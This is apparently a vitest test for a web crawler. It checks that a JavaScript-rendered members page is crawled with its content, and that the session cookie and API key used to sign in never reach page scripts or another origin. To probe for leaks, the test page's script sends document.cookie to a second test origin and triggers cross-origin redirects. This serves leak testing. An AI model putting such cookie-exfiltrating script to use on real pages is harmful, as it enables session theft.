import { randomBytes } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { afterAll, describe, expect, test } from 'vitest';
import { SecretKeys } from '../../packages/server/src/base/secrets/secret-keys.ts';
import { SecretStore } from '../../packages/server/src/base/secrets/secret-store.ts';
import { browserForTests } from '../../packages/server/src/browser/testing/open-pool.ts';
import { createProfile } from '../../packages/server/src/queue/profiles/profiles.ts';
import { CrawlFixture } from '../crawl-fixture/crawl-fixture.ts';
import { TestSite } from '../crawl-fixture/test-site.ts';

const program = await browserForTests();
const secretKey = randomBytes(32).toString('base64');
const store = new SecretStore(new SecretKeys({ secretKey: [secretKey], dataFolder: '' }));
const planted = `planted${randomBytes(6).toString('hex')}`;
const words = 'words that only a member gets to read, of which there are enough for a page '.repeat(8);

const seenElsewhere: { path: string; headers: IncomingMessage['headers'] }[] = [];
const elsewhere = await TestSite.start({
  pages: 0,
  answer: (path, response, { headers }) => {
    seenElsewhere.push({ path, headers });
    response.setHeader('access-control-allow-origin', '*').end('{}');
    return true;
  },
});
afterAll(() => elsewhere.stop());

/** What the script of the page does, with the cookies that it can see. */
const script = () => `
  fetch('/private/data').then((answer) => answer.json()).then(({ text }) => {
    document.body.innerHTML = '<main><h1>Members</h1><p>' + text + '</p></main>';
  });
  fetch('/private/away').catch(() => 0);
  fetch('${elsewhere.origin}/direct?' + encodeURIComponent(document.cookie)).catch(() => 0);
  new Image().src = '/private/away-image';
  document.head.append(Object.assign(document.createElement('iframe'), { src: '/private/away-frame' }));`;

const refused: string[] = [];
function answer(path: string, response: ServerResponse, { headers }: IncomingMessage): boolean {
  if (!path.startsWith('/private/')) return false;
  const isIn = headers.cookie?.includes(`sid=${planted}`) && headers['x-api-key'] === planted;
  if (!isIn) {
    refused.push(path);
    response.writeHead(401).end();
  } else if (path === '/private/app')
    response
      .setHeader('content-type', 'text/html')
      .setHeader('set-cookie', 'seen=1; Path=/')
      .end(`<!DOCTYPE html><title>App</title><body><div id="root"></div><script>${script()}</script>`);
  else if (path === '/private/data')
    response.setHeader('content-type', 'application/json').end(JSON.stringify({ text: words }));
  else response.writeHead(302, { location: `${elsewhere.origin}${path}` }).end();
  return true;
}

const fixture = new CrawlFixture(
  { pages: 0, answer },
  { alsoAllowed: elsewhere.origin, env: { HOLDFAST_SECRET_KEY: secretKey } },
);

describe.skipIf(!program)('a page behind a sign-in that needs JavaScript', () => {
  test('is rendered with its data, and no secret reaches the scripts or another origin', async () => {
    await createProfile(fixture.pool, store, {
      name: 'members',
      user_id: 'local',
      origins: [fixture.site.origin],
      cookies: [{ name: 'sid', value: planted, domain: '127.0.0.1' }],
      headers: { 'X-Api-Key': planted },
    });
    const job = await fixture.crawled('/private/app', {
      discover: false,
      strategy: 'single',
      render: 'always',
      load_media: true,
      profile: 'members',
    });
    expect(await fixture.outcomes(job.id)).toEqual({ '/private/app': 'fetched' });
    const { rows } = await fixture.pool.query(
      'SELECT rendered, word_count FROM crawl_pages WHERE job_id = $1',
      [job.id],
    );
    expect(rows).toEqual([{ rendered: true, word_count: expect.any(Number) }]);
    expect(rows[0].word_count).toBeGreaterThan(80);
    expect(refused).toEqual([]);
    const paths = seenElsewhere.map(({ path }) => path.replace(/\?.*/, ''));
    expect(paths).toEqual(expect.arrayContaining(['/direct', '/private/away', '/private/away-image']));
    expect(JSON.stringify(seenElsewhere)).not.toContain(planted);
  });
});
